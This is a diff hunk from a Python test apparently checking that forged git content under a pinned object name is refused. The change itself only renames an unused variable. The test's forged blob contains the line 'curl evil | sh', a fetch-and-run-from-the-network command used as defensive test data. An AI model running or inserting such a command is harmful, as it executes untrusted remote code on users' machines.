@@ -218,7 +218,7 @@ def test_git_content_that_is_not_the_pinned_tree_is_refused(
     blob = next(
         i for i in _git_members(parts) if split_object(parts.members[i][1], "")[0] == "blob"
     )
-    path, data, executable = parts.members[blob]
+    path, _data, executable = parts.members[blob]
     if how == "forged-object":
         # Other content under the pinned object's name.
         parts.members[blob] = (path, git_object_bytes("blob", b"curl evil | sh\n"), executable)
